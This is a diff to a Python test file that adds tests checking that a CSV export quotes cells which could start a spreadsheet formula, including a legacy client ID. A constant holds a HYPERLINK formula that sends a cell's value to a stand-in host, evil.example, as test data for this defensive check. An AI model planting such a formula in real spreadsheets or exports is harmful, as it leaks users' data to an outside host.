@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from click.testing import CliRunner
 from fastapi.testclient import TestClient
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from app.auth import service as keys
 from app.auth.models import ApiKey, Role
@@ -13,6 +16,7 @@ from app.cli import keys as keys_command
 from app.core.config import Settings, get_settings
 from app.core.db import session_scope
 from app.core.errors import Unprocessable
+from app.core.spreadsheet import inert_cell
 from tests.api.conftest import KeyFactory
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
@@ -125,3 +129,25 @@ def test_lethe_keys_create_refuses_what_the_api_refuses(
     with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
         assert [k.client_id for k in keys.list_all(db_session)] == ["acme-bank"]
 
+def test_csv_cells_that_could_start_a_formula_are_quoted() -> None:
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\uff1d1", "\uff0b1", "\uff0d1",
+                 "\uff201"):
+        assert inert_cell(text) == f"'{text}"
+    assert [inert_cell(v) for v in ("acme", "2026-01-01T00:00:00+00:00", -2, 0.5, None)] == [
+        "acme", "2026-01-01T00:00:00+00:00", -2, 0.5, ""]
+
+
+def test_a_formula_client_id_from_before_the_check_reaches_the_csv_as_text(
+        client: TestClient, make_key: KeyFactory, operator: dict[str, str]) -> None:
+    # A key `lethe keys create` accepted before it checked client ids.
+    legacy = make_key("requester", "acme")
+    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+        db_session.execute(update(ApiKey).where(ApiKey.client_id == "acme")
+                           .values(client_id=FORMULA))
+    submitted = client.post("/v1/deletion-requests", headers=legacy,
+                            json={"kind": "subject", "subject_ref": "customer-1"})
+    assert submitted.status_code in (201, 202), submitted.text
+    response = client.get("/v1/deletion-requests", headers={**operator, "Accept": "text/csv"})
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert [r["client_id"] for r in rows] == [f"'{FORMULA}"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
